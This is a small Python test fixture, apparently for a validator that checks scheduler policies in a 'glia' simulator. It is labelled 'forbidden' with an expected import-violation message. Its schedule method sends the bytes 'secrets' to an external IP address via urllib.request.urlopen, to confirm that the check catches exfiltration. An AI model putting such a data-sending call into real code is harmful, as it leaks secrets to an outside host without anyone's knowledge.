# tries: send data to an external address
# kind: forbidden
# message: {policy}:4: the policy imports urllib.request; a policy may import only {allowed}
import urllib.request

from glia.simulator import BaseGlobalScheduler


class P(BaseGlobalScheduler):
    def schedule(self):
        urllib.request.urlopen("http://93.184.216.34/", data=b"secrets", timeout=2)
        return [(0, self._request_queue.pop()) for _ in range(len(self._request_queue))]
